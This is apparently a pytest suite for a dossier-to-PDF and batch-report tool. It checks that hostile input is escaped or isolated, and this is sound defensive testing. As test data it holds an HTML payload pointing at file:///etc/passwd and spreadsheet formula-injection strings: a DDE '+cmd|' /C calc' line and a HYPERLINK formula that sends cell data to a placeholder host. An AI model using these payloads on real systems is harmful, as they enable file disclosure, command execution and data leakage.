"""What hostile dossier text does to the PDF (issue 10.10): long words break, markup stays text, nothing leaves
the page. Rendered once for the module; positions read back with `pdftotext -bbox`."""
import html
import json
import re
import subprocess
from pathlib import Path

import pytest

from .conftest import EXAMPLES

LONG_NAME = "Zone" + "W" * 196
LONG_ZH = "区" * 200
LONG_WORD = "D" * 5000
PAYLOAD = "<img src='file:///etc/passwd'>[/red]"


@pytest.fixture(scope="module")
def pdf(tmp_path_factory):
    from click.testing import CliRunner

    from engine.cli import main
    d = json.loads((EXAMPLES / "certifiable-xinhe-2016.json").read_text(encoding="utf-8"))
    d["zone"]["name"] = {"en": LONG_NAME, "zh": LONG_ZH}
    d["zone"]["city"] = PAYLOAD
    d["series"]["energy_consumption"]["source"] = {"document": LONG_WORD, "page": 1}
    folder = tmp_path_factory.mktemp("hostile-pdf")
    src = folder / "dossier.json"
    src.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    out = folder / "report.pdf"
    result = CliRunner().invoke(main, ["report", str(src), "-o", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return out


def words(pdf):
    """(page, x0, y0, x1, y1, page width, page height, text) of every word pdftotext finds."""
    out = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    page, size = 0, (0.0, 0.0)
    for line in out.splitlines():
        m = re.search(r'<page width="([\d.]+)" height="([\d.]+)"', line)
        if m:
            page, size = page + 1, (float(m.group(1)), float(m.group(2)))
            continue
        m = re.search(r'<word xMin="([-\d.]+)" yMin="([-\d.]+)" xMax="([-\d.]+)" yMax="([-\d.]+)">(.*)</word>', line)
        if m:
            yield (page, *map(float, m.groups()[:4]), *size, html.unescape(m.group(5)))


def test_no_text_lies_outside_the_page(pdf):
    found = list(words(pdf))
    assert any(LONG_NAME[:20] in w[-1] for w in found)           # the name is there, broken into lines
    assert any("DDDDDDDDDD" in w[-1] for w in found)
    outside = [(p, x0, x1, t[:30]) for p, x0, y0, x1, y1, width, height, t in found
               if x0 < 0 or y0 < 0 or x1 > width + 0.5 or y1 > height + 0.5]
    assert outside == []


def test_no_text_crosses_into_the_page_margins_sideways(pdf):
    """A4 with 17 mm side margins: body text and running headers stay between them (2 pt of tolerance)."""
    margin = 17 / 25.4 * 72
    wide = [(p, round(x0), round(x1), t[:30]) for p, x0, y0, x1, y1, width, height, t in words(pdf)
            if x0 < margin - 2 or x1 > width - margin + 2]
    assert wide == []


def test_markup_in_dossier_text_is_printed_as_text(pdf):
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "<img" in text and "[/red]" in text


# --- batch: one poisonous dossier never takes the run down (10.3, 10.9, 10.12) -----------------------------------

def _batch_folder(tmp_path, hostile: dict[str, bytes]):
    """The examples plus hostile files, in one folder."""
    folder = tmp_path / "in"
    folder.mkdir()
    for f in ("certifiable-xinhe-2016.json", "failing-donghai-2016.json"):
        (folder / f).write_bytes((EXAMPLES / f).read_bytes())
    for name, raw in hostile.items():
        (folder / name).write_bytes(raw)
    return folder


def _strict_lines(path):
    def refuse(name):
        raise ValueError(name)
    return [json.loads(line, parse_constant=refuse) for line in path.read_text(encoding="utf-8").splitlines()]


def test_batch_records_hostile_dossiers_as_error_lines_and_goes_on(run, tmp_path):
    text = (EXAMPLES / "certifiable-xinhe-2016.json").read_text(encoding="utf-8")
    hostile = {
        "surrogate-value.json": text.replace('"en": "', '"en": "\\ud800', 1).encode(),
        "surrogate-key.json": text.replace('"reported": {', '"reported": {"k\\udfff": 1, ', 1).encode(),
        "year0.json": text.replace('"as_of": "2016-06-30"', '"as_of": "0000-01-01"').encode(),
        "nan.json": text.replace('"2015": 2772000', '"2015": NaN', 1).encode(),
        "deep.json": b"[" * 1500 + b"]" * 1500,
        "unit.json": text.replace('"unit": "tce"', '"unit": "' + "t" * 100_000 + '"', 1).encode(),
    }
    assert all(raw != text.encode() for raw in hostile.values())
    folder = _batch_folder(tmp_path, hostile)
    (folder / "name-\udcff.json".encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape")
     ).write_bytes(text.encode())                               # a file name that is not UTF-8
    out = tmp_path / "out"
    code, stdout, stderr = run("batch", folder, "-o", out, "--jobs", 1)
    assert code == 1, stderr
    assert "Traceback" not in stderr + stdout
    errors = _strict_lines(out / "errors.jsonl")
    assert sorted(e["file"].rsplit("/", 1)[-1] for e in errors) == sorted(hostile)
    assert all(e["kind"] == "invalid" for e in errors)
    results = _strict_lines(out / "results.jsonl")
    assert len(results) == 3
    assert any("\\udcff" in r["dossier"]["file"] for r in results)
    assert "name-\\udcff.json" in (out / "summary.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("jobs", [1, 2])
def test_an_exception_while_checking_one_dossier_is_its_error_line(run, tmp_path, monkeypatch, jobs):
    """With --jobs 1 (in this process) and with workers (forked from it), the run goes on and says which failed."""
    from engine import evaluate

    real = evaluate.Deriver      # where checking a dossier starts, in a chunk checked at once as alone

    def flaky(d, *a, **k):
        if d.data["zone"]["id"] == "CN-JS-XHETDZ":
            raise RuntimeError("a bug met only by this zone")
        return real(d, *a, **k)
    monkeypatch.setattr(evaluate, "Deriver", flaky)
    folder = _batch_folder(tmp_path, {})
    out = tmp_path / "out"
    code, stdout, stderr = run("batch", folder, "-o", out, "--jobs", jobs)
    assert code == 1, stderr
    [error] = _strict_lines(out / "errors.jsonl")
    assert error["kind"] == "error" and error["file"].endswith("certifiable-xinhe-2016.json")
    assert "RuntimeError: a bug met only by this zone" in error["problems"][0]["message"]
    assert [r["dossier"]["zone"]["id"] for r in _strict_lines(out / "results.jsonl")] != []
    assert "1 failed" in stdout


@pytest.mark.parametrize("poison", ["crash", "hang"])
def test_a_dossier_that_kills_or_hangs_its_worker_is_its_own_error_line(run, tmp_path, monkeypatch, poison):
    """A segfault in the C core or an endless loop in one dossier: the pool is replaced, that dossier is an error
    line, every other dossier is checked (workers are forked from this process, so they see the patch)."""
    import os
    import signal
    import time

    from engine import evaluate

    real = evaluate.Deriver

    def poisoned(d, *a, **k):
        if d.data["zone"]["id"] == "CN-JS-XHETDZ":
            if poison == "crash":
                os.kill(os.getpid(), signal.SIGKILL)
            time.sleep(600)
        return real(d, *a, **k)
    monkeypatch.setattr(evaluate, "Deriver", poisoned)
    monkeypatch.setenv("PARKCERT_BATCH_DOSSIER_SECONDS", "4")
    folder = _batch_folder(tmp_path, {f"copy-{i}.json": (EXAMPLES / "failing-donghai-2016.json").read_bytes()
                                      .replace(b'"2016-06-30"', f'"2016-06-0{i + 1}"'.encode(), 1) for i in range(6)})
    out = tmp_path / "out"
    code, stdout, stderr = run("batch", folder, "-o", out, "--jobs", 2, "--chunk-size", 3)
    assert code == 1, stderr
    [error] = _strict_lines(out / "errors.jsonl")
    assert error["kind"] == "error" and error["file"].endswith("certifiable-xinhe-2016.json")
    assert ("worker process died" if poison == "crash" else "longer than 4 s") in error["problems"][0]["message"]
    assert len(_strict_lines(out / "results.jsonl")) == 7


def test_an_unexpected_error_outside_a_dossier_is_an_internal_error_with_jobs_1(run, tmp_path, monkeypatch):
    """Issue 10.3: `cf.process` was not imported with --jobs 1, so every unexpected error became an AttributeError."""
    from engine.batch import workers

    def broken(*a, **k):
        raise RuntimeError("the tables could not be written")
    monkeypatch.setattr(workers.Rows, "write", broken)
    code, stdout, stderr = run("batch", _batch_folder(tmp_path, {}), "-o", tmp_path / "out", "--jobs", 1)
    assert code == 4
    assert "RuntimeError: the tables could not be written" in stderr and "AttributeError" not in stderr


def _children(pid: int) -> list[int]:
    kids = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid and fields[0] != "Z":
            kids.append(int(stat.parent.name))
    return kids


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads processes from /proc")
def test_workers_die_with_a_killed_parent_and_the_folder_is_free_again(tmp_path):
    import signal
    import sys
    import time

    from .conftest import ROOT
    folder = _batch_folder(tmp_path, {f"copy-{i:02d}.json": (EXAMPLES / "failing-donghai-2016.json").read_bytes()
                                      .replace(b'"2016-06-30"', f'"2016-06-{i + 1:02d}"'.encode(), 1) for i in range(30)})
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "engine.cli", "batch", str(folder), "-o", str(out), "--jobs", "2", "--chunk-size", "1"]
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    workers = []
    while time.monotonic() < deadline and proc.poll() is None and len(workers) < 2:
        workers = _children(proc.pid)
        time.sleep(0.05)
    assert proc.poll() is None and len(workers) >= 2, "the batch ended before its workers could be seen"
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and any(_alive(p) for p in workers):
        time.sleep(0.1)
    assert not any(_alive(p) for p in workers), "workers outlived their parent"
    # the lock of the killed batch is taken over; the run completes
    again = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert again.returncode == 1, again.stderr
    assert "another batch" not in again.stderr
    assert len(_strict_lines(out / "results.jsonl")) == 32


def test_a_running_batch_still_refuses_a_second_one_and_names_its_process(run, tmp_path):
    import fcntl
    out = tmp_path / "out"
    (out / ".parkcert").mkdir(parents=True)
    with open(out / ".parkcert" / "lock", "w") as fh:
        fh.write("4242")
        fh.flush()
        fcntl.flock(fh, fcntl.LOCK_EX | fcntl.LOCK_NB)
        code, _, stderr = run("batch", _batch_folder(tmp_path, {}), "-o", out)
    assert code == 2 and "another batch (process 4242) is writing to this folder" in stderr


def test_dossier_text_that_a_spreadsheet_would_run_as_a_formula_is_text_in_every_csv(run, tmp_path, monkeypatch):
    """A zone named `=HYPERLINK(...)` is a formula to Excel even inside CSV quotes: every CSV writes such a cell
    with a leading apostrophe (shown as text); the Parquet tables and results.jsonl keep the dossier's words."""
    import csv

    import pyarrow.parquet as pq
    d = json.loads((EXAMPLES / "failing-donghai-2016.json").read_text(encoding="utf-8"))
    link = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    d["zone"]["name"] = {"en": link, "zh": "@SUM(1+1)"}
    d["zone"]["city"] = {"en": "+cmd|' /C calc'!A0", "zh": "-2+3"}
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "=evil.json").write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "out"
    monkeypatch.chdir(folder)       # the file column holds the name as given: "=evil.json"
    code, _, err = run("batch", "=evil.json", "-o", out, "--jobs", 1)
    assert code == 1, err
    import pyarrow as pa
    text = {name: [f.name for f in pq.read_schema(out / name.replace(".csv", ".parquet"))
                   if pa.types.is_string(getattr(f.type, "value_type", f.type))]
            for name in ("outcomes.csv", "verdicts.csv")}
    for name in ("outcomes.csv", "verdicts.csv", "summary.csv"):
        with open(out / name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert rows, name
        for row in rows:
            for column in text.get(name, row):       # numbers (a negative gap) are numbers, not text
                cell = row[column]
                assert not cell or cell == "-" or cell[0] not in "=+-@\t\r", (name, column, cell)
            assert row["file"] == "'=evil.json"
        if "zone_en" in rows[0]:
            assert {r["zone_en"] for r in rows} == {"'" + link}
            assert {r["zone_zh"] for r in rows} == {"'@SUM(1+1)"}
            assert {r["city_zh"] for r in rows} == {"'-2+3"}
    for name in ("outcomes.parquet", "verdicts.parquet"):
        assert set(pq.read_table(out / name)["zone_en"].to_pylist()) == {link}
    line = json.loads((out / "results.jsonl").read_text(encoding="utf-8"))
    assert line["dossier"]["zone"]["name"]["en"] == link
